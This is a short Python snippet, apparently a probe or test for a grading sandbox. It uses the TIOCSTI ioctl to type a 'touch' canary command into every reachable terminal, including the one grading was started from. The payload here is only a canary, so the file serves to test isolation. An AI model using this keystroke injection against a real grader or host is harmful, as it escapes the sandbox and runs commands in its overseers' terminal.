"""Types a command into the terminal that grading was started from, by the ioctl TIOCSTI, and opens every terminal."""

# %% own
import contextlib, fcntl, glob, os

for path in ["/dev/tty", "/dev/console", "/proc/1/fd/0", *glob.glob("/dev/pts/*"), *glob.glob("/dev/tty*"), "0"]:
    with contextlib.suppress(OSError):
        descriptor = 0 if path == "0" else os.open(path, os.O_RDWR)
        for letter in f"touch {CANARY}\n".encode():
            fcntl.ioctl(descriptor, 0x5412, bytes([letter]))
        open(CANARY, "w").write("typed")
